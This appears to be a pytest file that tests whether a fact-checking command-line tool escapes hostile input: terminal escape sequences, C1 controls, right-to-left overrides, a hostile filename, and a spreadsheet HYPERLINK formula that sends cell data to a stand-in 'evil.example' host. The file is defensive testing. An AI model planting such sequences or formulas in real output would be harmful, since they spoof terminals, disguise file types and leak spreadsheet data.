"""Hostile text in an article: terminal escape sequences, C1 controls and right-to-left
overrides reach no terminal and reorder no reading view; spreadsheet formulas stay text."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from workbench import hookimpl
from workbench.records import make_verdict, now

# Retitles an xterm (OSC 0 ... BEL), clears the screen through a C1 CSI, rewrites the
# line through a lone carriage return, and turns "exe.txt" around with U+202E.
HOSTILE = ("In 1994 \x1b]0;PWNED\x07 the treaty cost $5 million.\n"
           "In 1995 the \x9b2J levy rose by 20 per cent.\n"
           "In 1996 the fund lost $3 million\rIn 1996 all was well.\n"
           "In 1997 the file invoice\u202etxt.exe cost $7 million.\n")
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e]|\r(?!\n)")
TERMINAL_FORMATS = ["text", "markdown", "github", "sarif", "json", "claimreview",
                    "annotations", "csv"]


class RatesAll:
    """A checker that rates every claim false, so that every format has claims to show."""

    @hookimpl
    def check_claim(self, claim, document, options):
        return [make_verdict("false", 0.9, "Checked.", [{"url": "https://example.org/",
                                                         "accessed": now()}])]


@pytest.fixture
def article(tmp_path: Path, register_plugin: Callable[[object, str], None]) -> Path:
    register_plugin(RatesAll(), "rates_all")
    path = tmp_path / "hostile.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def check(run_cli: Callable[..., Result], *args: str) -> Result:
    result = run_cli("check", *args)
    assert result.exit_code == 0, result.stderr
    return result


@pytest.mark.parametrize("format_name", TERMINAL_FORMATS)
def test_no_control_character_reaches_the_terminal(run_cli: Callable[..., Result],
                                                   article: Path, format_name: str) -> None:
    output = check(run_cli, str(article), "-f", format_name, "--min-score", "0").stdout
    assert RAW.search(output) is None, RAW.search(output)
    assert "PWNED" in output and "txt.exe" in output


@pytest.mark.parametrize("format_name", ["text", "markdown", "github", "csv"])
def test_reading_views_show_the_characters_as_escapes(run_cli: Callable[..., Result],
                                                      article: Path, format_name: str) -> None:
    output = check(run_cli, str(article), "-f", format_name, "--min-score", "0").stdout
    assert "\\x1b" in output and "PWNED\\x07" in output  # markdown escapes the "]"
    assert "\\x9b2J" in output
    assert "invoice\\u202etxt.exe" in output


def test_json_keeps_the_exact_text(run_cli: Callable[..., Result], article: Path) -> None:
    output = check(run_cli, str(article), "-f", "json").stdout
    assert "\\u009b2J" in output and "\\u202e" in output  # escaped, so inert
    review = json.loads(output)
    assert review["documents"][0]["document"]["text"] == HOSTILE


def test_the_html_page_highlights_the_shown_text(run_cli: Callable[..., Result],
                                                 article: Path) -> None:
    page = check(run_cli, str(article), "-f", "html", "--min-score", "0").stdout
    assert RAW.search(page) is None
    data = json.loads(re.search(r'<script type="application/json" id="workbench-data">(.*?)'
                                r"</script>", page, re.S).group(1))
    [document] = data["documents"]
    quotes = [document["text"][claim["start"]:claim["end"]] for claim in document["claims"]]
    assert "In 1997 the file invoice\\u202etxt.exe cost $7 million." in quotes
    assert "In 1994 \\x1b]0;PWNED\\x07 the treaty cost $5 million." in quotes


def test_the_word_document_shows_the_override(run_cli: Callable[..., Result], article: Path,
                                              tmp_path: Path) -> None:
    import docx

    target = tmp_path / "review.docx"
    check(run_cli, str(article), "-f", "docx", "-o", str(target), "--min-score", "0")
    text = "\n".join(paragraph.text for paragraph in docx.Document(str(target)).paragraphs)
    assert "invoice\\u202etxt.exe" in text and "\u202e" not in text
    comments = [comment.text for comment in docx.Document(str(target)).comments]
    assert comments and not any("\u202e" in comment for comment in comments)


def test_plain_csv_is_safe_to_open_in_a_spreadsheet(run_cli: Callable[..., Result],
                                                    tmp_path: Path) -> None:
    path = tmp_path / "formula.txt"
    path.write_text('=HYPERLINK("https://evil.example/?"&A1,"In 1994 it cost $5 million.")\n',
                    encoding="utf-8")
    table = list(csv.DictReader(io.StringIO(check(run_cli, str(path), "-f", "csv").stdout)))
    assert table[0]["text"].startswith("'=HYPERLINK(")


def test_the_store_commands_show_the_characters_as_escapes(run_cli: Callable[..., Result],
                                                           article: Path,
                                                           tmp_path: Path) -> None:
    db = str(tmp_path / "store.db")
    stored = run_cli("--db", db, "check", str(article), "--store", "-o", str(tmp_path / "r"))
    assert stored.exit_code == 0, stored.stderr
    listed = run_cli("--db", db, "claims", "list")
    assert RAW.search(listed.stdout) is None and "\\x1b]0;PWNED" in listed.stdout
    ids = re.findall(r"^(clm-\w+)", listed.stdout, re.M)
    for claim_id in ids:
        for command in (["show", claim_id], ["show", claim_id, "-f", "json"],
                        ["history", claim_id], ["list", "-f", "json"]):
            result = run_cli("--db", db, "claims", *command)
            assert result.exit_code == 0
            assert RAW.search(result.stdout) is None, (command, result.stdout)


def test_an_error_naming_a_hostile_file_is_inert(run_cli: Callable[..., Result],
                                                 tmp_path: Path) -> None:
    path = tmp_path / "\x1b]0;PWNED\x07.txt"
    path.write_text("", encoding="utf-8")
    result = run_cli("check", str(path))
    assert result.exit_code == 2
    assert result.stderr == f"error: {tmp_path}/\\x1b]0;PWNED\\x07.txt: input is empty\n"
